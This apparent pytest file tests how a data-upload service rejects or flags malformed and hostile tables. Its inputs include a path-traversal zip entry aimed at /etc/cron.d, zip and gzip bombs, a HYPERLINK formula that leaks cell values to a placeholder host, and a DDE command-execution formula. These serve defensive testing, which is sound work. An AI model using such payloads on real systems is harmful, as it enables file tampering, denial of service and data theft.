"""What a bad table gets: a sentence and a hint, over the API and the command line; no trace."""

import gzip
import io
import math
import random
import zipfile

import pytest


def zip_of(**entries):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return file.getvalue()


REFUSED = {
    "empty file": (b"", 422, "empty_data"),
    "header only": (b"a,b,target\n", 422, "empty_data"),
    "binary under a csv name": (
        b"\x89PNG\r\n\x1a\n" + random.Random(1).randbytes(100_000),
        422,
        "unreadable_data",
    ),
    "10,000 columns": (
        (",".join(f"c{n}" for n in range(10_000)) + "\n" + ",".join("1" * 10_000)).encode(),
        413,
        "too_large",
    ),
    "duplicate column names": (b"a,b,a\n1,2,3\n", 422, "duplicate_columns"),
    "ragged rows": (b"a,b\n1,2\n3\n", 422, "ragged_data"),
    "path traversal in a zip": (
        zip_of(**{"../../../etc/cron.d/x": b"a,b\n1,2\n"}),
        422,
        "unsafe_archive",
    ),
    "zip bomb": (zip_of(a=b"0,0\n" * 20_000_000), 422, "unsafe_archive"),
    "gzip bomb": (gzip.compress(b"0,0\n" * 20_000_000, 9), 422, "unsafe_archive"),
}
CASES = [pytest.param(*case, id=name) for name, case in REFUSED.items()]


def is_one_sentence(text):
    return text.endswith(".") and "\n" not in text and len(text) < 300 and not text[0].islower()


@pytest.mark.parametrize(("content", "status", "code"), CASES)
def test_a_bad_table_is_refused_over_the_api(tenant, content, status, code):
    answer = tenant.upload(content)
    problem = answer.json()
    assert (answer.status_code, problem["code"]) == (status, code)
    assert answer.headers["content-type"] == "application/problem+json"
    assert is_one_sentence(problem["detail"])
    assert is_one_sentence(problem["hint"])
    assert not tenant.left_behind()


@pytest.mark.parametrize(
    "content", [pytest.param(case[0], id=name) for name, case in REFUSED.items()]
)
def test_a_bad_table_is_refused_on_the_command_line(command, tenant, tmp_path, content):
    (tmp_path / "table.csv").write_bytes(content)
    said = command("solve", "table.csv", "--yes")
    lines = said.err.splitlines()
    assert said.status == 2
    assert not said.out
    sentence, hint = lines[-2:]
    assert sentence.startswith("✗ ")
    assert is_one_sentence(sentence.removeprefix("✗ "))
    assert is_one_sentence(hint.strip())
    assert not tenant.left_behind()


@pytest.mark.parametrize("name", ["", " ", "x" * 201, "a\nb", "\x1b[2J", "a\x00"])
def test_a_name_that_is_none_is_refused(tenant, name):
    answer = tenant.upload("a,b\n1,2\n", name)
    assert answer.status_code == 422
    assert answer.json()["code"] == "wrong_input"
    assert not tenant.left_behind()


def rows_of(header, row, count=40):
    return "\n".join([header, *(row(number) for number in range(count))]) + "\n"


ACCEPTED = {
    "NaN and infinity": (
        rows_of("a,b,y", lambda n: f"{['NaN', 'inf', '-Infinity', n / 7][n % 4]},{n},{n % 2}"),
        "infinite_values",
    ),
    "mixed types": (
        rows_of("a,b,y", lambda n: f"{'unknown!' if n % 9 == 4 else n},{n},{n % 2}"),
        "mixed_types",
    ),
    "a 300-character category": (
        rows_of("a,b,y", lambda n: f"{'长' * 300 if n % 2 else 'short'},{n},{n % 2}"),
        "long_text",
    ),
    "formula injection": (
        rows_of("a,b,y", lambda n: f'"=HYPERLINK(""http://x/""&A{n % 5})",{n},{n % 2}'),
        "formula_text",
    ),
    "one column": (rows_of("a", lambda n: f"{n}"), "one_column"),
    "a constant column": (rows_of("a,b,y", lambda n: f"7,{n},{n % 2}"), "constant_column"),
    "an identifier": (
        rows_of("id,b,y", lambda n: f"{1000 + n},{n % 7},{n % 2}"),
        "likely_identifier",
    ),
}


@pytest.mark.parametrize(
    ("content", "finding"), [pytest.param(*case, id=name) for name, case in ACCEPTED.items()]
)
def test_an_odd_table_is_accepted_and_its_oddity_is_told(tenant, content, finding):
    dataset = tenant.brought(content)
    assert dataset["rows"] == 40
    warnings = {warning["code"]: warning for warning in dataset["warnings"]}
    assert finding in warnings
    assert warnings[finding]["zh"]
    assert warnings[finding]["en"]


def test_infinity_and_nan_are_missing_in_the_preview(tenant):
    dataset = tenant.brought("a,b\n1.5,1\nNaN,2\ninf,3\n-inf,4\n2.5,5\n")
    preview = tenant.client.get(f"/v1/datasets/{dataset['dataset_id']}/preview").json()
    assert [row[0] for row in preview["rows"]] == [1.5, None, None, None, 2.5]
    column = dataset["profile"]["columns"][0]
    assert column["missing"] == 3
    assert math.isclose(column["maximum"], 2.5)


def test_a_formula_stays_the_text_it_was(tenant):
    formula = "=cmd|'/C calc'!A0"
    dataset = tenant.brought(f"a,b\n{formula},1\n@SUM(A1),2\n")
    preview = tenant.client.get(f"/v1/datasets/{dataset['dataset_id']}/preview").json()
    assert [row[0] for row in preview["rows"]] == [formula, "@SUM(A1)"]


@pytest.mark.parametrize("form", ["2024-01-{:02d}", "2024/1/{}", "2024年1月{}日", "{}.1.2024"])
def test_dates_written_as_text_become_dates(tenant, form):
    days = range(13, 31)
    dataset = tenant.brought("day,b\n" + "".join(f"{form.format(day)},{day}\n" for day in days))
    preview = tenant.client.get(f"/v1/datasets/{dataset['dataset_id']}/preview").json()
    assert dataset["profile"]["columns"][0]["kind"] == "date"
    assert preview["rows"][0][0] == "2024-01-13"


def test_gb18030_with_chinese_headers_is_read(tenant):
    content = rows_of("水泥,强度", lambda n: f"{n}.5,{n % 3}", 30).encode("gb18030")
    dataset = tenant.brought(content, "混凝土")
    assert dataset["name"] == "混凝土"
    assert [column["name"] for column in dataset["profile"]["columns"]] == ["水泥", "强度"]
